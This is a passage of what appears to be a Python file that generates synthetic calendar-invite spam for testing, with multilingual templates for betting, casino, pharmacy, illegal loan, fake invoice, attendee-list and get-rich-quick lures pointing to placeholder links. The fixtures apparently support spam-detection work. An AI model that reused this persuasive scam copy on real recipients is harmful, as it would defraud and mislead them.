   "आज के मैच पर दांव लगाएं और पहली डिपॉज़िट पर 500% बोनस पाएं। तुरंत विड्रॉल, UPI सपोर्ट।\n{link}",
   link="https://ipl-{tok}.win.example/", rr="FREQ=DAILY;COUNT=45", alarms=[0], dur=20, snd=['free', 'look']),
])

# ---------------------------------------------------------------------------------------------------------------
CATS['mass-invitation'] = ("Mass invitations to long attendee lists: B2B pitches, attendee-list sellers, pharma, loans, casinos",
                           dict(snd=['free', 'comp', 'look', 'tenant'], off=(1, 10)), [
 S('en', "SEO pitch to 200 attendees", "Quick chat about {rdom} traffic",
   "Hi there,\n\nI was looking at {rdom} and noticed a few things holding back your search visibility - slow mobile pages and about 40 broken backlinks. "
   "We fixed the same for two companies in your sector last quarter.\n\nWould you be open to a 15-minute call? I've put a slot in your calendar, feel free to move it.\n\nBest, Ryan",
   mass=180, sname="Ryan | Growth Team", snd=['free', 'tenant']),
 S('en', "attendee list seller", "Attendee list - Healthcare IT Expo",
   "Hi,\n\nHope you're doing well. Would you be interested in acquiring the attendees list of Healthcare IT Expo {year}?\n\n"
   "Total contacts: 24,578\nDetails: name, title, company, phone, verified e-mail\n\nLet me know and I'll send pricing and a sample. "
   "If not relevant, reply 'unsubscribe'.\n\nRegards,\nSophie Turner\nMarketing Analyst", mass=240, snd=['free', 'tenant', 'comp']),
 S('en', "men's health pharmacy blast", "Discreet consultation - 80% off",
   "Private online consultation with a licensed doctor, medication delivered in plain packaging. "
   "Generic options from $0.89 per pill, no prescription hassle.\n\n{link}", link="https://rx-{tok}.pharmacy-online.example/", mass=150, snd=['free', 'look']),
 S('en', "pre-approved business funding", "Working capital pre-approval for {rorg}",
   "Good news - based on public filings, {rorg} qualifies for up to $250,000 in working capital. No collateral, funding in 24 hours, "
   "bad credit considered.\n\nPick a time with an advisor or call {phone}.", mass=120, snd=['free', 'comp', 'look']),
 S('en', "casino welcome bonus mass invite", "🎰 200 free spins credited",
   "200 free spins + 100% up to $1,000 are waiting for you. No wagering on the first 50 spins.\nPlay now: {link}",
   link="https://spin-{tok}.casino.example/welcome", mass=300, snd=['free', 'tenant']),
 S('en', "sponsored CFO dinner mass invite", "Invitation: CFO roundtable dinner (sponsored)",
   "Dear Finance Leader,\n\nYou are invited to an intimate roundtable dinner for CFOs and finance directors, hosted by our partners. "
   "Complimentary three-course dinner, no sales pitches - just candid conversation about automation in AP.\n\nPlease RSVP via the calendar buttons. Seats are capped at 20.",
   loc="The Grand Hotel, Private Dining Room", mass=160, snd=['comp', 'look', 'tenant']),
 S('ko', "불법 대출 대량 초대", "무직자·저신용자도 당일 대출 가능",
   "무직자, 주부, 저신용자도 OK! 신용 조회 없이 당일 최대 3천만원까지.\n상담 문의: {phone}\n카카오톡: loan{n2}",
   mass=150, snd=['free']),
 S('zh', "代开发票群发", "代开各类正规发票",
   "您好！本公司长期代开各类增值税发票、普通发票，可验证后付款，点数优惠。\n联系人：李经理\n电话/微信：13{n2}{n2}{n1}",
   mass=200, snd=['free'], tz='Asia/Shanghai'),
 S('ja', "副業 大量招待", "【限定募集】スマホだけで月収50万円",
   "スマホ1台で、1日10分の作業だけ。主婦や学生でも月収50万円を達成しています。\n"
   "今だけ無料で始め方をお伝えしています。\n\n▼詳しくはこちら\n{link}", link="https://fukugyo-{tok}.jp.example/lp", mass=250, snd=['free', 'look']),
 S('th', "สล็อตเว็บตรง ส่งเชิญจำนวนมาก", "สล็อตเว็บตรง ฝากถอนไม่มีขั้นต่ำ",
   "สมัครวันนี้รับโบนัส 100% แจกเครดิตฟรี 500 บาท ฝาก-ถอนออโต้ 30 วินาที\n{link}", link="https://slot-{tok}.bet.example/th",
   mass=200, snd=['free']),
])

